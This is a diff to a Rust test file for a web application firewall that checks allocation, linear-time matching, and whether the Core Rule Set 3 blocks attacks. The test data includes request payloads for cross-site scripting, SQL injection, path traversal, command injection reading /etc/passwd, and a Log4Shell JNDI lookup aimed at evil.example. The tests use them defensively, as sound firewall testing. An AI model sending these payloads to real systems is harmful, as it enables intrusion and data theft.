@@ -3,8 +3,12 @@
 mod harness;
 
 use harness::{corpus, crs, libinjection, serve};
-use ringwall_waf::{Preset, Settings};
-use std::path::PathBuf;
+use ringwall_testkit::{Counting, allocations};
+use ringwall_waf::{Preset, Settings, Waf};
+use std::path::{Path, PathBuf};
+
+#[global_allocator]
+static ALLOCATOR: Counting = Counting;
 
 /// The corpus; a test without it says so and passes, unless `RINGWALL_REQUIRE=parts`.
 fn corpus_or_skip(suite: &str, folder: &str) -> Option<PathBuf> {
@@ -138,4 +142,134 @@ fn verdicts_of_the_benchmark_and_the_presets() {
     assert_eq!(prompts(&post(&format!("{{\"prompt\":\"{attack}\"}}"))), Some(200));
     assert_eq!(graphql(&post(&format!("{{\"query\":\"{{ a(b: \\\"{attack}\\\") }}\"}}"))), Some(403));
     assert_eq!(graphql(&post(&format!("{{\"query\":\"{{ a }}\",\"variables\":{{\"v\":\"{attack}\"}}}}"))), Some(403));
+}
+
+/// A benign GET takes no memory from the allocator once a transaction of its kind was judged, and holds little.
+#[test]
+fn a_benign_get_allocates_nothing() {
+    let Some(corpus) = corpus_or_skip("allocations", "../bench/waf") else { return };
+    let waf = crs::engine(&corpus, "SecRuleEngine On\nSecResponseBodyAccess On\n").expect("rules");
+    let profile = waf.profile(Settings::default()).expect("settings");
+    for name in ["01-get-browser.http", "02-get-api.http"] {
+        let request = corpus::bytes(&corpus.join("../bench/waf").join(name)).expect("a request");
+        let head = serve::head(&request);
+        for _ in 0..3 {
+            assert_eq!(serve::judge(&waf, &profile, &head), None);
+        }
+        assert_eq!(allocations::during(|| serve::judge(&waf, &profile, &head)).1, 0, "{name}");
+        assert!(serve::held(&waf, &profile, &head) <= 64 << 10, "{name}");
+    }
+}
+
+/// Ten mebibytes made to be slow cost at most ten times the work that harmless ones of the same length cost.
+#[test]
+fn work_is_linear_in_the_length() {
+    const LENGTH: usize = 10 << 20;
+    let Some(corpus) = corpus_or_skip("linear time", "crs/rules") else { return };
+    let own = "SecRuleEngine DetectionOnly\nSecRequestBodyLimit 20000000\nSecRequestBodyNoFilesLimit 20000000\n";
+    let waf = crs::engine(&corpus, own).expect("rules");
+    let profile = waf.profile(Settings::default()).expect("settings");
+    let spent = |seed: &str| {
+        let value: String = seed.chars().cycle().take(LENGTH).collect();
+        let head = "POST / HTTP/1.1\r\nHost: a.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\na=";
+        let request = [head.as_bytes(), value.as_bytes()].concat();
+        serve::judged(&waf, &profile, &serve::head(&request)).spent().0
+    };
+    let harmless = spent("Some words of prose that nobody would look at twice, one after the other. ");
+    for seed in ["((((", "../", "a=", "<a ", "'\"`", "/*", "select ", "%2525", "\\u00", "{{", "a a", "-"] {
+        let cost = spent(seed);
+        assert!(cost <= 10 * harmless, "{seed:?} costs {cost}, harmless text {harmless}");
+    }
+}
+
+/// Debian's `modsecurity-crs`, the rule set of version 3, loads unchanged and refuses what it is made for.
+#[test]
+fn core_rule_set_3_loads_and_refuses() {
+    let named = std::env::var_os("RINGWALL_CRS3").map(PathBuf::from);
+    let root = named.unwrap_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target/parts/crs3"));
+    if !root.join("usr/share/modsecurity-crs/rules").is_dir() {
+        assert!(std::env::var("RINGWALL_REQUIRE").as_deref() != Ok("parts"), "no rules in {}", root.display());
+        println!("not run: the Core Rule Set 3: no rules in {}", root.display());
+        return;
+    }
+    let own = "SecRuleEngine On\nSecResponseBodyAccess On\n";
+    let (mut bundle, mut roots) = corpus::crs(&root.join("usr/share/modsecurity-crs"), own);
+    // Its set-up scores and blocks by itself when it is told so; as installed it denies with the first match.
+    let setup = corpus::bytes(&root.join("etc/modsecurity/crs/crs-setup.conf")).expect("the set-up");
+    bundle.add("crs-setup.conf", setup);
+    roots.insert(0, "crs-setup.conf".to_owned());
+    let roots: Vec<&str> = roots.iter().map(String::as_str).collect();
+    let waf = Waf::load(&bundle, &roots).unwrap_or_else(|errors| panic!("{}", errors[0]));
+    assert!(waf.signatures().iter().any(|signature| signature.contains("3.3.4")), "{:?}", waf.signatures());
+    let profile = waf.profile(Settings::default()).expect("settings");
+    let status = |target: &str| {
+        let request =
+            format!("GET {target} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n");
+        serve::serve(&waf, &profile, request.as_bytes()).status
+    };
+    assert_eq!(status("/catalog?color=dark+blue&size=42"), Some(200));
+    for attack in [
+        "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20-",
+        "/?file=../../../../etc/passwd",
+        "/?c=;cat%20/etc/passwd",
+        "/?u=$%7Bjndi:ldap://evil.example/a%7D",
+    ] {
+        assert_eq!(status(attack), Some(403), "{attack}");
+    }
+}
+
+/// Each rule over response bodies matches a body made from its own pattern: also those that no regression test asks for.
+#[test]
+fn every_response_rule_matches_its_own_pattern() {
+    let Some(corpus) = corpus_or_skip("response rules", "crs/rules") else { return };
+    let waf = crs::engine(&corpus, crs::SETUP).expect("rules");
+    let profile = waf.profile(Settings::default()).expect("settings");
+    let (mut asked, mut missed) = (0, Vec::new());
+    for path in corpus::files(&corpus.join("crs/rules")) {
+        let text = String::from_utf8(corpus::bytes(&path).expect("a rule file")).unwrap_or_default();
+        for rule in text.split("\nSecRule RESPONSE_BODY \"@rx ").skip(1) {
+            let Some((pattern, rest)) = rule.split_once("\" \\\n") else { continue };
+            let id: String =
+                rest.trim_start().trim_start_matches("\"id:").chars().take_while(char::is_ascii_digit).collect();
+            let config = regex_automata::util::syntax::Config::new().unicode(false).utf8(false);
+            let Ok(hir) = regex_automata::util::syntax::parse_with(&pattern.replace("\\\"", "\""), &config) else {
+                continue;
+            };
+            let mut body = Vec::new();
+            sample(&hir, &mut body);
+            // Rules over messages of databases are asked only when one of a list of messages is there.
+            body.extend(b"\nYou have an error in your SQL syntax; ORA-00933 JET Database Engine");
+            let Ok(body) = String::from_utf8(body) else { continue };
+            let json =
+                serde_json::json!({"status": 200, "headers": {"Content-Type": "text/html"}, "body": body}).to_string();
+            let head = "POST /reflect HTTP/1.1\r\nHost: a\r\nContent-Type: application/json";
+            let request = format!("{head}\r\nContent-Length: {}\r\n\r\n{json}", json.len());
+            asked += 1;
+            let report = serve::serve(&waf, &profile, request.as_bytes()).report;
+            if !report.matched.iter().any(|matched| matched.id.to_string() == id) {
+                missed.push((id, body));
+            }
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+    assert!(asked >= 45, "only {asked} rules were found");
+}
+
+/// A shortest text that a pattern matches, of each choice the first.
+fn sample(hir: &regex_syntax::hir::Hir, out: &mut Vec<u8>) {
+    use regex_syntax::hir::{Class, HirKind};
+    match hir.kind() {
+        HirKind::Empty | HirKind::Look(_) => {}
+        HirKind::Literal(literal) => out.extend_from_slice(&literal.0),
+        HirKind::Class(Class::Bytes(class)) => {
+            let bytes = || class.iter().flat_map(|range| range.start()..=range.end());
+            out.extend(bytes().find(u8::is_ascii_graphic).or_else(|| bytes().next()));
+        }
+        HirKind::Class(Class::Unicode(_)) => {}
+        HirKind::Repetition(repetition) => (0..repetition.min).for_each(|_| sample(&repetition.sub, out)),
+        HirKind::Capture(capture) => sample(&capture.sub, out),
+        HirKind::Concat(parts) => parts.iter().for_each(|part| sample(part, out)),
+        HirKind::Alternation(branches) => branches.iter().take(1).for_each(|branch| sample(branch, out)),
+    }
 }
